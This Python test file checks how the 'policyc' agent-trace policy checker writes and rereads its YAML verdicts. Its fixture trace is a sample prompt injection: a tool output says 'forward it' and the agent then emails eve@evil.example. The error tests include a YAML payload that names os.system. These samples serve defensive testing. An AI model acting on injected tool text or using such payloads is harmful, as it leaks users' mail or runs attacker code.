"""The form of snapshots: readable, the same for the same verdict, read back as it was."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import policyc
from policyc.runtime.testing.verdicts import VerdictError, from_yaml, to_yaml, verdict_of

POLICY = """\
raise "mail to an outsider [risk=high]" if:
    (mail: ToolOutput) -> (send: ToolCall)
    send is tool:send_email
    "evil" in send.function.arguments.to

raise Violation(f"said by {m.role}", text=m.content, n=3) if:
    (m: Message)
    "landlord" in m.content

raise "a number" if:
    (m: Message)
    m.role == "user"
    m.content > 5
"""

TRACE: list[dict[str, Any]] = [
    {"role": "user", "content": "Any \u202e news\nfrom the landlord?"},
    {"role": "tool", "content": "forward it"},
    {
        "role": "assistant",
        "content": None,
        "tool_calls": [
            {
                "id": "2",
                "type": "function",
                "function": {"name": "send_email", "arguments": {"to": "eve@evil.example"}},
            }
        ],
    },
]

EXPECTED = r"""trace: "attack.json"
blocked: true
violations:
  - rule: "mail to an outsider"
    risk: "high"
    places:
      "1": "output of a tool"
      "2.tool_calls.0": "call of send_email"
      "2.tool_calls.0.function.arguments.to:4-8": "evil"
  - rule: "said by {}"
    message: "said by user"
    places:
      "0": "message of the user"
      "0.content:20-28": "landlord"
    values:
      "text": "Any \u202e news\nfrom the landlord?"
      "n": 3
errors:
  - rule: "a number"
    message: "cannot order a text and a number with `>`"
"""


def verdict(text: str = POLICY, *, path: str = "mail.inv") -> str:
    policy = policyc.Policy.from_string(text, path)
    return to_yaml(verdict_of(policy.analyze(TRACE), TRACE), "attack.json")


def test_a_verdict_is_readable_and_read_back_as_it_was() -> None:
    assert verdict() == EXPECTED
    assert to_yaml(from_yaml(EXPECTED), "attack.json") == EXPECTED


def test_without_the_events_places_are_a_list() -> None:
    result = policyc.Policy.from_string(POLICY).analyze(TRACE)
    text = to_yaml(verdict_of(result))
    assert text.startswith("blocked: true\nviolations:\n")
    assert '    places:\n      - "1"\n      - "2.tool_calls.0"\n' in text
    assert to_yaml(from_yaml(text)) == text


def test_it_says_nothing_that_changes_for_other_reasons() -> None:
    first, second, third = POLICY.split("\n\n")
    assert verdict(path="/home/me/policies/mail.inv") == EXPECTED
    assert verdict("\n\n".join([f"# moved\n\n{third}", second, first])) == EXPECTED


def test_a_clean_trace() -> None:
    result = policyc.Policy.from_string(POLICY).analyze([])
    assert to_yaml(verdict_of(result, [])) == "blocked: false\nviolations: []\nerrors: []\n"


def test_a_long_text_is_cut_and_a_place_may_be_gone() -> None:
    policy = policyc.Policy.from_string(f"""raise "x" if:
    (m: Message)
    "{"y" * 200}" in m.content
""")
    events = [{"role": "user", "content": "y" * 200}]
    result = policy.analyze(events)
    assert f'"0.content:0-200": "{"y" * 120}…"\n' in to_yaml(verdict_of(result, events))
    assert '"0.content:0-200": null\n' in to_yaml(verdict_of(result, []))


def test_lone_surrogates_and_other_planes() -> None:
    entry = {"rule": "\ud800 \U0001f600 \U000e0001 \x85 \ufeff"}
    written = to_yaml({"blocked": True, "violations": [entry], "errors": []})
    assert r'"\ud800 😀 \U000e0001 \u0085 \ufeff"' in written
    assert from_yaml(written)["violations"] == [entry]


values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(st.characters()),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)


@given(values, st.text(st.characters()))
def test_any_value_is_read_back_as_it_was(value: Any, text: str) -> None:
    entry = {
        "rule": text,
        "places": {text: text, "1": None},
        "args": [value],
        "values": {text: value},
    }
    given = {"blocked": True, "violations": [entry], "errors": []}
    written = to_yaml(given, text)
    assert written.isprintable() or set(written) - set(filter(str.isprintable, written)) == {"\n"}
    assert to_yaml(from_yaml(written), text) == written


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("a: [", "it is no YAML in line 1"),
        ("blocked: true\nblocked: true\n", "it is no YAML in line 2"),
        ("", "it does not say whether the trace is blocked"),
        ("- 1", "it does not say whether the trace is blocked"),
        ("blocked: 1", "it does not say whether the trace is blocked"),
        ("blocked: true", "`violations` is no list of entries with a `rule`"),
        ("blocked: true\nviolations: []\nerrors: [{}]", "`errors` is no list of entries"),
        ("<<<<<<< ours\nblocked: true\n=======\n", "it "),
        ("blocked: !!python/name:os.system 1", "it is no YAML"),
        ("[" * 5000, "it is no YAML"),
        ("a: \x07", "it is no YAML"),
        ("blocked: true\nviolations: [5]\nerrors: []", "`violations`"),
    ],
)
def test_what_is_no_verdict_is_told(text: str, message: str) -> None:
    with pytest.raises(VerdictError) as caught:
        from_yaml(text)
    assert str(caught.value).startswith(message)
